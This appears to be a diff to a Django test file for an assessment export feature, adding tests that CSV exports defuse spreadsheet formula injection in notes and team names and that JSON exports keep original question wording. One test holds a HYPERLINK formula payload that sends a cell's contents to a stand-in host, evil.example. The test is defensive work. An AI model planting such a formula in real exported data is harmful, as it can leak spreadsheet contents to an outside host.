@@ -2,6 +2,7 @@
 
 from __future__ import annotations
 
+import csv
 import io
 import json
 
@@ -11,6 +12,8 @@ from django.urls import reverse
 
 from assessments.periods import Quarter
 from assessments.services import assessment_start
+from catalogue.models import Question
+from organizations.models import Team
 from tests.conftest import submit
 
 CODES = [f"{d}-{n}" for d in ("VO", "CX", "AO", "MP") for n in range(1, 6)]
@@ -36,7 +39,8 @@ def known(model_v0, team_a, team_b, lead_a, lead_b):
 
 
 def expected_csv() -> str:
-    header = "organization,team,year,quarter,model_version,question,score,note\n"
+    """Lines end in CRLF (RFC 4180); a line break inside a quoted note stays a bare LF."""
+    header = "organization,team,year,quarter,model_version,question,score,note\r\n"
     rows_a = []
     for code, score in zip(CODES, [1, 2, 3, 4, 5] * 4, strict=True):
         note = {
@@ -44,10 +48,11 @@ def expected_csv() -> str:
             "CX-2": '"\'=HYPERLINK(""http://x"")"',
             "MP-5": '"line one\nline two"',
         }.get(code, "")
-        rows_a.append(f"Acme Corp,Enterprise Onboarding,2026,3,v0,{code},{score},{note}\n")
+        rows_a.append(f"Acme Corp,Enterprise Onboarding,2026,3,v0,{code},{score},{note}\r\n")
     smb_notes = {"AO-3": "'@risk"}
     rows_b = [
-        f"Acme Corp,SMB Onboarding,2026,2,v0,{code},3,{smb_notes.get(code, '')}\n" for code in CODES
+        f"Acme Corp,SMB Onboarding,2026,2,v0,{code},3,{smb_notes.get(code, '')}\r\n"
+        for code in CODES
     ]
     return header + "".join(rows_a) + "".join(rows_b)
 
@@ -136,3 +141,63 @@ def test_the_json_command_lists_every_submitted_assessment(known):
         ("SMB Onboarding", 2026, 2),
     ]
     assert documents[1]["overall_total"] == 60
+
+
+# Every start a spreadsheet runs as a formula; spelled out here, not imported from the code.
+FORMULA_PREFIXES = ["=", "+", "-", "@", "\t", "\r"]
+
+
+def exported_rows(client) -> list[list[str]]:
+    response = client.get(reverse("assessments:export-csv", args=["acme"]))
+    body = b"".join(response.streaming_content).decode()
+    return list(csv.reader(io.StringIO(body)))
+
+
+@pytest.mark.parametrize("prefix", FORMULA_PREFIXES, ids=repr)
+def test_every_formula_start_is_defused_in_notes_and_names(
+    client, admin_user, model_v0, acme, lead_a, prefix
+):
+    # Each value holds a comma or a quote, so it is quoted whatever it starts with (a bare "\r"
+    # in an unquoted field: see the next test).
+    team = Team.objects.create(organization=acme, name=f"{prefix}Team, EMEA", slug="formula-team")
+    team.leads.add(lead_a)
+    note = f'{prefix}HYPERLINK("http://evil.example/?"&A1,"click")'
+    submit(team, lead_a, Quarter(2026, 3), 3, {"VO-1": note, "CX-2": f"safe, {prefix}inside"})
+    client.force_login(admin_user)
+    header, *rows = exported_rows(client)
+    assert len(rows) == 20
+    by_code = {row[5]: row for row in rows}
+    assert by_code["VO-1"][7] == "'" + note
+    assert by_code["CX-2"][7] == f"safe, {prefix}inside"  # only a leading one is defused
+    assert {row[1] for row in rows} == {f"'{prefix}Team, EMEA"}
+    for row in rows:
+        for cell in row:
+            assert not cell.startswith(tuple(FORMULA_PREFIXES)), row
+
+
+def test_a_note_with_a_bare_carriage_return_is_quoted(client, admin_user, model_v0, team_a, lead_a):
+    submit(team_a, lead_a, Quarter(2026, 3), 3, {"VO-1": "\rstarts", "CX-2": "in\rside"})
+    client.force_login(admin_user)
+    header, *rows = exported_rows(client)
+    notes = {row[5]: row[7] for row in rows}
+    assert (notes["VO-1"], notes["CX-2"]) == ("'\rstarts", "in\rside")
+
+
+def test_json_export_never_shows_a_questions_new_wording(
+    client, consultant, model_v0, team_a, lead_a
+):
+    assessment = submit(team_a, lead_a, Quarter(2026, 3), 3)
+    question = Question.objects.get(dimension__model=model_v0, code="CX-2")
+    question.text = "Reworded after submission: do customers co-sign every milestone?"
+    question.save()  # as the admin change form does
+
+    client.force_login(consultant)
+    response = client.get(reverse("assessments:export-json", args=[assessment.pk]))
+    assert response.status_code == 200
+    assert "Reworded after submission" not in response.content.decode()
+    document = response.json()
+    answer = next(a for a in document["answers"] if a["question"] == "CX-2")
+    assert answer["score"] == 3
+    out = io.StringIO()
+    call_command("export_assessments", "--format", "json", stdout=out)
+    assert "Reworded after submission" not in out.getvalue()
